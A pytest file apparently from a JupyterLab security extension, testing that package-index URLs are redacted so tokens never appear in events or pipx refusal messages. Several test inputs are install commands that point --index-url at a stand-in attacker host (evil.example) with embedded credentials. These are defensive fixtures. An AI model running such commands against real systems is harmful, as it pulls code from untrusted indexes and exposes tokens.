"""Fix for red team 46b R46b-2/R46b-3: the one spelling of shown text (``redact_url``) keeps
no credential of a URL Warden cannot read (``https:u:TOKEN@host``, never shown raw) and masks
the token path segment of the known token-path hosts (Cloudsmith, Gemfury), as the shared
vectors schema/vectors/redact-url.json say (src/deps/request.spec.ts runs them too); a
confirmation of a masked finding still holds for the same command."""

import json
from pathlib import Path

import pytest

from jupyterlab_warden.kernel.guard.installs import decide
from jupyterlab_warden.kernel.guard.installs.gate import InstallGate, WardenBlockedInstall
from jupyterlab_warden.kernel.guard.installs.request import InstallRequest, Source, redact_url
from jupyterlab_warden.kernel.guard.state import GuardState

VECTORS = json.loads(
    (Path(__file__).parents[2] / "schema" / "vectors" / "redact-url.json").read_text()
)["vectors"]
TOKEN = "SECRETxyz0123456789"


@pytest.mark.parametrize("vector", VECTORS, ids=lambda v: v["text"])
def test_redact_url_vector(vector):
    assert redact_url(vector["text"]) == vector["shown"]


def test_a_confirmed_token_path_index_is_not_asked_again_and_no_event_holds_it():
    policy = {
        "schema_version": 1,
        "revision": 1,
        "rules": {decide.RULE_INDEX: {"action": "confirm"}},
    }
    gate = InstallGate(GuardState(policy))

    def request():
        req = InstallRequest("pip", "pip install x")
        req.sources.append(
            Source(f"https://dl.cloudsmith.io/{TOKEN}/acme/repo/python/simple/", "index", "-i")
        )
        return req

    with pytest.raises(WardenBlockedInstall) as refused:
        gate._enforce([request()], "pip", in_process=False)
    events = [e for e in refused.value.events if e["rule_id"] == decide.RULE_INDEX]
    assert len(events) == 1 and TOKEN not in json.dumps(refused.value.events)
    assert "dl.cloudsmith.io/***/acme" in json.dumps(events)
    gate.state.confirm(events[0]["fingerprint"], "our private index")
    gate._enforce([request()], "pip", in_process=False)  # confirmed: runs


@pytest.mark.parametrize(
    "args",
    [
        ["run", "--pip-args", f"-q --index-url https://u:{TOKEN}@evil.example/simple", "x"],
        ["install", "--index-url", f"--zzz=https://u:{TOKEN}@evil.example/simple", "x"],
        ["install", f"-qhttps:u:{TOKEN}@evil.example", "x"],
    ],
)
def test_a_pipx_refusal_quotes_no_credential(args):
    """R46b-1: every word a pipx_cli refusal quotes goes through redact_url (as pipxcli.ts)."""
    from jupyterlab_warden.kernel.guard.installs import pipx_cli

    line = pipx_cli.parse(args)
    assert isinstance(line, str) and TOKEN not in line, line
